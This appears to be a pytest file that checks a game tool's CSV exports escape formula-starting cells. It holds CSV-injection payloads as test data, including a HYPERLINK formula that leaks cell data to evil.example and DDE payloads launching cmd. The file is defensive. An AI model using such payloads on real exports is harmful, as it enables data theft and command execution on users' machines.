"""Issue 46, "Exports never run": every CSV cell a spreadsheet would read as a formula (one
starting with =, +, -, @, a tab or a CR) is escaped as OWASP advises (a single quote before
it), in every export: the After-action panel's data and the critical-hit log. The audit's
names (``=HYPERLINK(...)``, ``+cmd|' /C calc'!A0``) and an older file's tab and CR ones."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from app.core.csv_cells import FORMULA_STARTS, cell
from app.core.dice import TableDice
from app.session import GameSession
from app.ui.docks.after_action import AfterActionDock
from app.ui.docks.critical_log import CriticalLogDock
from app.ui.model import EngagementModel
from tests.older_file import replace_text

NAMES = {
    "HYPERLINK": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "DDE": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
}
#: an older file's names (a tab or a CR before a formula cannot be typed any more)
OLDER = {"TAB": "\t=1+1", "CR": "\r=1+1"}


def _runs(value: str) -> bool:
    """A spreadsheet would read this cell as a formula."""
    return value.startswith(FORMULA_STARTS) and cell(value) != value


def test_cell_escapes_what_owasp_names_and_leaves_numbers() -> None:
    for bad in [*NAMES.values(), *OLDER.values(), "=1", "+1", "@x", "-x", "-1+1", "-9/2"]:
        assert cell(bad) == "'" + bad
    for fine in ["Red 1", "9/2", "-3", "-1.5", "-2e-3", "1,5", "", "'=x", " =x"]:
        assert cell(fine) == fine
    assert cell(None) == "" and cell(-4) == "-4"


@pytest.fixture
def game(tmp_path: Path):
    """Aircraft named by the audit, on sides named so too; gun attacks and critical hits
    among them (series, rolls, losses, luck, typed dice: every table of the export); then
    the file as an older Airboss could have left it, with a tab and a CR name."""
    path = tmp_path / "g.airboss"
    s = GameSession.create(path, ruleset="skirmish", title="Exports")
    ids = [
        s.add_aircraft(side=NAMES["at"] if n % 2 else NAMES["minus"], type_id="jet", name=name)
        for n, name in enumerate([*NAMES.values(), "Old tab", "Old cr"])
    ]
    s.roster.set_dice(NAMES["at"], NAMES["DDE"])
    for attacker, target in zip(ids, ids[1:] + ids[:1], strict=True):
        s.perform("gun_attack", {"attacker": attacker, "target": target}, TableDice([2]))
        s.perform("critical_hit", {"aircraft": target}, TableDice([3]))
    s.close()
    replace_text(path, "Old tab", OLDER["TAB"])
    replace_text(path, "Old cr", OLDER["CR"])
    s = GameSession.open(path)
    yield s
    s.close()


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as f:
        return [c for row in csv.reader(f) for c in row]


def _check(cells: list[str]) -> None:
    assert cells
    runs = [c for c in cells if _runs(c)]
    assert runs == [], runs
    for name in NAMES.values():  # the text is all there, quoted, as typed
        assert "'" + name in cells, name


def test_the_critical_hit_log_exports_no_formula(game, qtbot, tmp_path: Path) -> None:
    dock = CriticalLogDock(EngagementModel(game))
    qtbot.addWidget(dock)
    dock.show()
    out = tmp_path / "crits.csv"
    dock.export_csv(out)
    cells = _cells(out)
    _check(cells)
    assert "\\t=1+1" in cells  # an older file's tab: shown escaped, never a tab
    assert not any(c.startswith(("\t", "\r")) for c in cells)


def test_the_after_action_data_exports_no_formula(game, qtbot, tmp_path: Path) -> None:
    panel = AfterActionDock(EngagementModel(game))
    qtbot.addWidget(panel)
    panel.resize(900, 650)
    panel.show()
    qtbot.waitExposed(panel)
    out = panel.view.export_csv(tmp_path / "data.csv")
    cells = _cells(out)
    _check(cells)
    assert "'" + NAMES["at"] in cells  # the sides too
    assert not any(c.startswith(("\t", "\r")) for c in cells)
